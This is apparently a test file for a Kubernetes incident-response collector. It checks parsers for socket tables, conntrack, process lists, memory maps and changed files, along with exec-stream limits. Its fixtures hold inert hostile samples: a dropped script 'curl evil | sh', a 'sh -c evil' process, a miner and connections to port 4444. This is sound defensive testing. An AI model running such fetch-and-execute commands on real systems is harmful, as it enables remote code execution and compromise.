import assert from 'node:assert/strict';
import { EventEmitter } from 'node:events';
import { Readable, type Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { test } from 'node:test';
import type * as k8s from '@kubernetes/client-node';
import * as tar from 'tar-stream';
import { readableBytes } from '../../adapters/kubernetes/captures/memory';
import { selects } from '../../adapters/kubernetes/captures/network';
import { ChangedFilesScanner } from '../../adapters/kubernetes/captures/changed-files';
import { cutShort, ExecReadable, type ExecOutcome } from '../../adapters/kubernetes/collector/exec-stream';
import type { CollectorHandle } from '../../adapters/kubernetes/collector/launcher';
import {
  decodeProcAddress,
  parseConntrack,
  parseInetTable,
  parseResolvConf,
  parseSocketInodes,
  parseUnixTable,
  splitSections,
} from '../../adapters/kubernetes/captures/network-parse';
import { parseProcessList } from '../../adapters/kubernetes/collector/processes';

test('/proc/net addresses decode for IPv4 and IPv6', () => {
  assert.deepEqual(decodeProcAddress('0100007F:1F90'), { address: '127.0.0.1', port: 8080 });
  assert.deepEqual(decodeProcAddress('0200580A:115C'), { address: '10.88.0.2', port: 4444 });
  assert.deepEqual(decodeProcAddress('00000000000000000000000001000000:0016'), { address: '::1', port: 22 });
  assert.deepEqual(decodeProcAddress('0000000000000000FFFF00000200580A:0050'), {
    address: '::ffff:10.88.0.2',
    port: 80,
  });
  assert.equal(decodeProcAddress('zz:1'), undefined);
});

test('socket tables parse with states and owning processes', () => {
  const tcp = `  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 0200580A:C350 0300580A:115C 01 00000000:00000000 00:00000000 00000000     0        0 331234 1 0000000000000000 20 4 30 10 -1
   1: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000 65532        0 331000 1 0000000000000000 100 0 0 10 0`;
  const [established, listening] = parseInetTable('tcp', tcp);
  assert.equal(established!.state, 'ESTABLISHED');
  assert.deepEqual(established!.remote, { address: '10.88.0.3', port: 4444 });
  assert.equal(established!.inode, 331234);
  assert.equal(listening!.state, 'LISTEN');
  assert.equal(listening!.uid, 65532);
  const unix = parseUnixTable(
    'Num       RefCount Protocol Flags    Type St Inode Path\n0000000000000000: 00000002 00000000 00010000 0001 01 12345 /run/evil sock\n',
  );
  assert.deepEqual(
    unix.map((u) => [u.protocol, u.state, u.inode, u.path]),
    [['unix-stream', 'UNCONNECTED', 12345, '/run/evil sock']],
  );
  const owners = parseSocketInodes('1 331234\n7 331234\nnot a line\n1 331000\n');
  assert.deepEqual(owners.get(331234), [1, 7]);
});

test('sections cannot be forged by content that lacks the nonce', () => {
  const text =
    '=== n0nce resolv.conf ===\nnameserver 10.0.0.10\n=== other conntrack ===\nsearch evil\n=== n0nce end ===\n';
  const sections = splitSections(text, 'n0nce');
  assert.deepEqual([...sections.keys()], ['resolv.conf', 'end']);
  assert.deepEqual(parseResolvConf(sections.get('resolv.conf')!).nameservers, ['10.0.0.10']);
  assert.match(sections.get('resolv.conf')!, /=== other conntrack ===/);
});

test('conntrack extended lines parse into original and reply tuples', () => {
  const [entry] = parseConntrack(
    'ipv4     2 tcp      6 431999 ESTABLISHED src=10.88.0.2 dst=10.88.0.3 sport=50000 dport=4444 src=10.88.0.3 dst=10.88.0.2 sport=4444 dport=50000 [ASSURED] mark=0 use=1\n',
  );
  assert.equal(entry!.state, 'ESTABLISHED');
  assert.deepEqual(entry!.original, { src: '10.88.0.2', dst: '10.88.0.3', sport: '50000', dport: '4444' });
  assert.deepEqual(entry!.reply, { src: '10.88.0.3', dst: '10.88.0.2', sport: '4444', dport: '50000' });
  assert.deepEqual(entry!.flags, ['ASSURED']);
});

test('label selectors follow Kubernetes semantics', () => {
  const labels = { app: 'shop', tier: 'web' };
  assert.equal(selects({}, labels), true, 'an empty selector selects every pod');
  assert.equal(selects({ matchLabels: { app: 'shop' } }, labels), true);
  assert.equal(selects({ matchLabels: { app: 'other' } }, labels), false);
  assert.equal(selects({ matchExpressions: [{ key: 'tier', operator: 'In', values: ['web', 'api'] }] }, labels), true);
  assert.equal(selects({ matchExpressions: [{ key: 'tier', operator: 'NotIn', values: ['web'] }] }, labels), false);
  assert.equal(selects({ matchExpressions: [{ key: 'canary', operator: 'DoesNotExist' }] }, labels), true);
  assert.equal(selects(undefined, labels), false);
});

test('readable bytes count only readable, ordinary mappings', () => {
  const maps = [
    '00400000-00401000 r-xp 00000000 00:1f 123 /bin/busybox',
    '00401000-00403000 rw-p 00000000 00:00 0 [heap]',
    '7ffd0000-7ffd1000 ---p 00000000 00:00 0',
    '7ffd1000-7ffd3000 r--p 00000000 00:00 0 [vvar]',
    'ffffffffff600000-ffffffffff601000 --xp 00000000 00:00 0 [vsyscall]',
  ].join('\n');
  assert.equal(readableBytes(maps), 0x1000n + 0x2000n);
});

test('the process list parser keeps only well-formed lines and trims values', () => {
  const id = 'a'.repeat(64);
  const text =
    `1\t0\t0\tmnt:[1]\t${id}\tsh \t/bin/busybox \tsh -c evil \n` +
    'x\tbad\n' +
    '12\t1\t65532\tmnt:[1]\tnot-an-id\tminer\t/tmp/m\t./m --pool x\n';
  const processes = parseProcessList(text);
  assert.deepEqual(
    processes.map((p) => [p.pid, p.comm, p.exe, p.uid, p.containerId]),
    [
      [1, 'sh', '/bin/busybox', 0, id],
      [12, 'miner', '/tmp/m', 65532, undefined],
    ],
  );
});

async function tarOf(
  entries: Array<{ name: string; ctime: number; body?: string; type?: 'directory' }>,
): Promise<Buffer> {
  const pack = tar.pack();
  for (const e of entries) {
    const header = {
      name: e.name,
      type: e.type ?? 'file',
      mode: 0o644,
      mtime: new Date(1000),
      pax: { ctime: String(e.ctime), mtime: '1.5' },
    } as tar.Header & { pax: Record<string, string> };
    pack.entry(header, e.body ?? '');
  }
  pack.finalize();
  const chunks: Buffer[] = [];
  for await (const c of pack) chunks.push(Buffer.from(c as Uint8Array));
  return Buffer.concat(chunks);
}

test('changed files: entries with ctime at or after the container start, newest first; the tar passes through unchanged', async () => {
  const start = Date.parse('2026-11-28T10:00:00Z') / 1000;
  const archive = await tarOf([
    { name: './etc/passwd', ctime: start - 86400 },
    { name: './tmp/', ctime: start + 5, type: 'directory' },
    { name: './tmp/dropped.sh', ctime: start + 10, body: 'curl evil | sh' },
    { name: './app/touched-back', ctime: start + 3 },
  ]);
  const scanner = new ChangedFilesScanner('2026-11-28T10:00:00Z', 100);
  const out: Buffer[] = [];
  await pipeline(
    Readable.from([archive.subarray(0, 700), archive.subarray(700)]),
    scanner.tee(),
    async (source: AsyncIterable<Buffer>) => {
      for await (const c of source) out.push(c);
    },
  );
  assert.deepEqual(Buffer.concat(out), archive);
  const report = await scanner.report();
  assert.equal(report.scannedEntries, 4);
  assert.deepEqual(
    report.entries.map((e) => e.path),
    ['/tmp/dropped.sh', '/tmp', '/app/touched-back'],
  );
  assert.equal(
    report.entries[0]!.mtime,
    new Date(1500).toISOString(),
    'mtime is kept: an old mtime next to a new ctime is itself a sign',
  );
  assert.equal(report.complete, true);
});

test('changed files: a truncated tar gives an incomplete report, never a failed stream', async () => {
  const archive = await tarOf([
    { name: './a', ctime: 2e9, body: 'x'.repeat(5000) },
    { name: './b', ctime: 2e9 },
  ]);
  const scanner = new ChangedFilesScanner('2026-11-28T10:00:00Z', 100);
  await pipeline(Readable.from([archive.subarray(0, 1024)]), scanner.tee(), async (source: AsyncIterable<Buffer>) => {
    for await (const _ of source) {
      /* drain */
    }
  });
  const report = await scanner.report();
  assert.equal(report.complete, false);
  assert.ok(report.problem);
});

/** A fake of @kubernetes/client-node's Exec: writes `output` to stdout in chunks, then reports a status. */
function fakeExec(output: Buffer[], status: k8s.V1Status, opts: { holdOpen?: boolean } = {}) {
  const ws = Object.assign(new EventEmitter(), {
    paused: 0,
    resumed: 0,
    closed: false,
    pause() {},
    resume() {},
    close() {},
  });
  ws.pause = () => {
    ws.paused++;
  };
  ws.resume = () => {
    ws.resumed++;
  };
  ws.close = () => {
    ws.closed = true;
    setImmediate(() => ws.emit('close'));
  };
  const exec = {
    async exec(
      _ns: string,
      _pod: string,
      _c: string,
      _argv: string[],
      stdout: Writable,
      _stderr: Writable,
      _stdin: null,
      _tty: boolean,
      cb: (s: k8s.V1Status) => void,
    ) {
      setImmediate(() => {
        for (const chunk of output) stdout.write(chunk);
        if (!opts.holdOpen) {
          cb(status);
          ws.emit('close');
        }
      });
      return ws;
    },
  };
  return { exec: exec as unknown as k8s.Exec, ws };
}

const handle: CollectorHandle = {
  namespace: 'ns',
  pod: 'p',
  container: 'c',
  targetContainer: 'app',
  info: { name: 'holdfast-collector', version: 'test' },
  notes: [],
};

test('exec stream: bytes pass through; exit status reaches onEnd before the stream ends', async () => {
  const { exec } = fakeExec([Buffer.from('hello '), Buffer.from('world')], { status: 'Success' });
  let outcome: ExecOutcome | undefined;
  const stream = new ExecReadable(exec, handle, ['cat'], { maxBytes: 1024, timeoutMs: 5000 }, (o) => {
    outcome = o;
  });
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(c as Buffer);
  assert.equal(Buffer.concat(chunks).toString(), 'hello world');
  assert.deepEqual(
    { exit: outcome!.exitCode, bytes: outcome!.bytes, truncated: outcome!.truncated },
    { exit: 0, bytes: 11, truncated: false },
  );
});

test('exec stream: stops exactly at maxBytes and says so', async () => {
  const { exec, ws } = fakeExec(
    [Buffer.alloc(600, 1), Buffer.alloc(600, 2)],
    { status: 'Success' },
    { holdOpen: true },
  );
  let outcome: ExecOutcome | undefined;
  const stream = new ExecReadable(exec, handle, ['cat'], { maxBytes: 1000, timeoutMs: 5000 }, (o) => {
    outcome = o;
  });
  let total = 0;
  for await (const c of stream) total += (c as Buffer).length;
  assert.equal(total, 1000);
  assert.equal(outcome!.truncated, true);
  assert.equal(ws.closed, true, 'the remote command is cut off');
});

test('exec stream: a non-zero exit is reported, and onEnd may turn it into an error', async () => {
  const { exec } = fakeExec([], {
    status: 'Failure',
    message: 'command terminated with non-zero exit code',
    details: { causes: [{ reason: 'ExitCode', message: '2' }] },
  });
  const stream = new ExecReadable(exec, handle, ['tar'], { maxBytes: 1000, timeoutMs: 5000 }, (o) =>
    o.exitCode === 2 ? new Error('tar failed') : undefined,
  );
  await assert.rejects(async () => {
    for await (const _ of stream) {
      /* drain */
    }
  }, /tar failed/);
});

test('exec stream: a connection that closes without an exit status is an error for captures (cutShort)', async () => {
  const { exec } = fakeExec([Buffer.from('half a tar')], undefined as unknown as k8s.V1Status);
  const stream = new ExecReadable(exec, handle, ['tar'], { maxBytes: 1000, timeoutMs: 5000 }, (o) =>
    cutShort('tar', o),
  );
  await assert.rejects(async () => {
    for await (const _ of stream) {
      /* drain */
    }
  }, /closed before the command ended \(10 bytes\)/);
});

test('exec stream: the time bound ends a command that never finishes', async () => {
  const { exec } = fakeExec([Buffer.from('partial')], { status: 'Success' }, { holdOpen: true });
  let outcome: ExecOutcome | undefined;
  const stream = new ExecReadable(exec, handle, ['sleep'], { maxBytes: 1000, timeoutMs: 100 }, (o) => {
    outcome = o;
  });
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(c as Buffer);
  assert.equal(Buffer.concat(chunks).toString(), 'partial');
  assert.equal(outcome!.timedOut, true);
  assert.equal(outcome!.exitCode, null);
});

test('exec stream: a slow consumer pauses the websocket', async () => {
  const { exec, ws } = fakeExec(
    Array.from({ length: 8 }, () => Buffer.alloc(512 * 1024)),
    { status: 'Success' },
  );
  const stream = new ExecReadable(
    exec,
    handle,
    ['cat'],
    { maxBytes: 64 * 1024 * 1024, timeoutMs: 5000 },
    () => undefined,
  );
  let total = 0;
  for await (const c of stream) {
    total += (c as Buffer).length;
    await new Promise((r) => setTimeout(r, 5));
  }
  assert.equal(total, 4 * 1024 * 1024);
  assert.ok(ws.paused > 0, 'backpressure reached the socket');
});
